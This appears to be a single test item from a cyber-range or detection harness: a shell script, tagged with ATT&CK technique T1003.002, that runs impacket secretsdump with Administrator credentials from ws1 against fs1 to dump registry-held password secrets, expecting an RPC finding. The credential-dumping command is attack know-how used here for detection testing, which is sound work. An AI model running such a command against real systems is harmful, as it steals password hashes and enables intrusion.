# SPDX-License-Identifier: Apache-2.0
# what: impacket secretsdump of fs1, by the remote registry; Samba has no boot key
# technique: T1003.002
# from: ws1
# to: fs1
# account: Administrator
# outcome: attempt
# must: finding rpc
. "$RANGE_HERE/item.sh"
cd "$HOME"
impacket secretsdump "CORP/Administrator:$ADMIN_PASSWORD@$fs1"
true
